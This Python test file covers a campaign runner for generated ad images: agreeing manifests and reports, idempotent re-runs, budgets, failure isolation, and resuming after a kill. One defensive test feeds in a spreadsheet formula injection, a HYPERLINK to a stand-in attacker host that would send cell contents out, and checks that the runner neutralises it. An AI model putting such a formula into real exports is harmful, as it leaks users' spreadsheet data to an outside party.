"""The campaign runner on the embedded back end: outputs that agree, a re-run that makes nothing,
the budget, one failing variant, and a kill in the middle that loses and repeats nothing."""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time

import pytest
import yaml
from PIL import Image

from genloop.campaign import parse_spec, report, run
from genloop.campaign.manifest import read_manifest
from genloop.campaign.runlog import RunLog
from genloop.evaluators import evaluator
from genloop.sdk import Client

SPEC = {
    "name": "sneakers",
    "axes": {"product": ["a red sneaker", "a blue ball"], "scene": ["on grass", "on sand"]},
    "template": "{product} {scene}",
    "copy": {"axis": "product", "headlines": {"a red sneaker": "Run far.",
                                              "a blue ball": "Play on."}, "cta": "Shop"},
    "formats": [{"name": "1:1", "width": 64, "height": 64},
                {"name": "9:16", "width": 54, "height": 96}],
    "brand": {"palette": ["#ff0000", "#0000ff"]},
    "loop": {"model": "tiny", "evaluator": "clip", "rounds": 1, "candidates": 2, "steps": 2},
}


@pytest.fixture
def local(tmp_path, resources):
    with Client.local(home=tmp_path / "home", threads=4, resources=resources) as client:
        yield client


def artifact_files(home):
    return sorted(p for p in (home / "artifacts").rglob("*") if p.is_file())


def test_a_campaign_writes_agreeing_manifest_csv_report_and_formats(tmp_path, local):
    manifest = run(parse_spec(SPEC), local, out=tmp_path / "out")
    folder = tmp_path / "out" / "sneakers"
    assert manifest.counts() == {"succeeded": 4}
    assert manifest.spent_images == 8 and manifest.spent_steps == 16
    for v in manifest.variants:
        assert set(v.formats) == {"1:1", "9:16"}
        for name, out in v.formats.items():
            size = Image.open(folder / out.file).size
            assert size == {"1:1": (64, 64), "9:16": (54, 96)}[name]
            assert out.contrast >= 4.5
        assert 0.0 <= v.brand_compliance <= 1.0
    # One finalist per product (the default), chosen among that product's variants.
    finalists = [v.values["product"] for v in manifest.variants if v.finalist]
    assert sorted(finalists) == ["a blue ball", "a red sneaker"]
    rows = list(csv.DictReader(io.StringIO((folder / "manifest.csv").read_text())))
    assert [r["variant"] for r in rows] == [v.key for v in manifest.variants]
    assert [r["file:9:16"] for r in rows] == [v.formats["9:16"].file for v in manifest.variants]
    html = (folder / "report.html").read_text()
    assert re.findall(r'data-key="([0-9a-f]+)"', html) == [v.key for v in manifest.variants]
    assert len(list((folder / "sheets").glob("*.png"))) == 2


def test_running_again_generates_nothing_and_returns_the_same_runs(tmp_path, local):
    spec = parse_spec(SPEC)
    first = run(spec, local, out=tmp_path / "out")
    files = artifact_files(tmp_path / "home")
    mtimes = {v.formats["1:1"].file: (tmp_path / "out/sneakers" / v.formats["1:1"].file)
              .stat().st_mtime_ns for v in first.variants}
    again = run(spec, local, out=tmp_path / "out")
    assert [v.run_id for v in again.variants] == [v.run_id for v in first.variants]
    assert artifact_files(tmp_path / "home") == files
    # Creatives made from the same image, format and copy are kept, not redrawn.
    assert {f: (tmp_path / "out/sneakers" / f).stat().st_mtime_ns for f in mtimes} == mtimes
    assert again.model_dump(exclude={"variants"}) == first.model_dump(exclude={"variants"})


def test_the_budget_stops_variants_before_they_start(tmp_path, local):
    spec = parse_spec(dict(SPEC, budget={"images": 5}))
    manifest = run(spec, local, out=tmp_path / "out")
    assert [v.status for v in manifest.variants] == ["succeeded", "succeeded", "skipped",
                                                     "skipped"]
    assert manifest.spent_images == 4
    assert len(RunLog(tmp_path / "out/sneakers/runs.jsonl").current()) == 2
    assert all("over budget" in v.error for v in manifest.variants[2:])


@evaluator("campaign-test-fussy")
def fussy(images, text):
    from genloop.sdk.errors import Permanent

    if "ball" in text:
        raise Permanent("balls cannot be judged")
    return [1.0] * len(images)


def test_one_failing_variant_never_stops_the_others(tmp_path, local):
    spec = parse_spec(dict(SPEC, loop=dict(SPEC["loop"], evaluator="campaign-test-fussy")))
    manifest = run(spec, local, out=tmp_path / "out")
    by_product = {}
    for v in manifest.variants:
        by_product.setdefault(v.values["product"], set()).add(v.status)
    assert by_product == {"a red sneaker": {"succeeded"}, "a blue ball": {"failed"}}
    assert all("balls cannot be judged" in v.error for v in manifest.variants
               if v.status == "failed")
    html = (tmp_path / "out/sneakers/report.html").read_text()
    assert html.count("balls cannot be judged") == 2


def test_report_rebuilds_the_folder_from_stored_runs(tmp_path, local):
    spec = parse_spec(SPEC)
    first = run(spec, local, out=tmp_path / "out")
    (tmp_path / "out/sneakers/manifest.json").unlink()
    (tmp_path / "out/sneakers/report.html").unlink()
    rebuilt = report(spec, local, out=tmp_path / "out")
    assert [v.artifact for v in rebuilt.variants] == [v.artifact for v in first.variants]
    assert (tmp_path / "out/sneakers/report.html").exists()


@pytest.mark.slow
def test_a_killed_runner_resumes_without_losing_or_repeating_work(tmp_path):
    spec = dict(SPEC, loop=dict(SPEC["loop"], rounds=2, candidates=4, steps=6))
    (tmp_path / "spec.yaml").write_text(yaml.safe_dump(spec))
    argv = [sys.executable, "-m", "genloop.workers.cli.main", "campaign", "run",
            str(tmp_path / "spec.yaml"), "--local", str(tmp_path / "home"),
            "--out", str(tmp_path / "out"), "--quiet"]
    runs_file = tmp_path / "out/sneakers/runs.jsonl"
    first = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and first.poll() is None:
        if len(RunLog(runs_file).current()) == 4:
            break
        time.sleep(0.05)
    assert first.poll() is None, "the runner finished before it could be killed"
    os.kill(first.pid, signal.SIGKILL)
    first.wait()
    recorded = RunLog(runs_file).current()
    again = subprocess.run(argv, capture_output=True, text=True, timeout=300)
    assert again.returncode == 0, again.stderr[-2000:]
    assert RunLog(runs_file).current() == recorded  # the same four runs, none new
    manifest = read_manifest(tmp_path / "out/sneakers")
    assert [v.status for v in manifest.variants] == ["succeeded"] * 4
    assert [v.run_id for v in manifest.variants] == list(recorded.values())
    with sqlite3.connect(tmp_path / "home" / "state.db") as db:
        assert db.execute("SELECT count(*) FROM runs").fetchone()[0] == 4


def test_an_axis_value_a_spreadsheet_would_run_is_written_as_text(tmp_path, local):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    spec = {**SPEC, "name": "csv", "axes": {"product": [formula, "-1+2", "a blue ball"]},
            "template": "{product}", "copy": None, "formats": SPEC["formats"][:1],
            "loop": {**SPEC["loop"], "candidates": 1}}
    run(parse_spec(spec), local, out=tmp_path / "out")

    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "csv" / "manifest.csv")
                                           .read_text())))
    assert sorted(r["product"] for r in rows) == ["'-1+2", "'" + formula, "a blue ball"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_a_variants_key_is_decided_by_its_images_alone(tmp_path):
    import hashlib
    import json

    from genloop.campaign.runner import loop_key

    spec = parse_spec(SPEC)
    values = next(iter(spec.variants()))
    loop = spec.loop_for(values)
    hooked = parse_spec({**SPEC, "webhook": {"url": "https://hooks.example/c",
                                             "variants": True}}).loop_for(values)
    # Fields added to Loop later (labels, webhook, priority, retention; cache and give_up at
    # their defaults; reuse, which campaigns set) leave the keys of stored campaigns as they were
    before = {k: v for k, v in loop.model_dump(mode="json").items()
              if k not in ("labels", "webhook", "priority", "retention", "cache", "reuse",
                           "give_up")}
    old_key = "campaign:" + hashlib.sha256(json.dumps(before, sort_keys=True).encode()
                                           ).hexdigest()[:32]
    assert loop_key(loop) == loop_key(hooked) == old_key
    assert hooked.webhook.url == "https://hooks.example/c"
    # A plain URL is the campaign's own webhook: its variants' loops have none
    assert parse_spec({**SPEC, "webhook": "https://hooks.example/c"}).loop_for(
        values).webhook is None
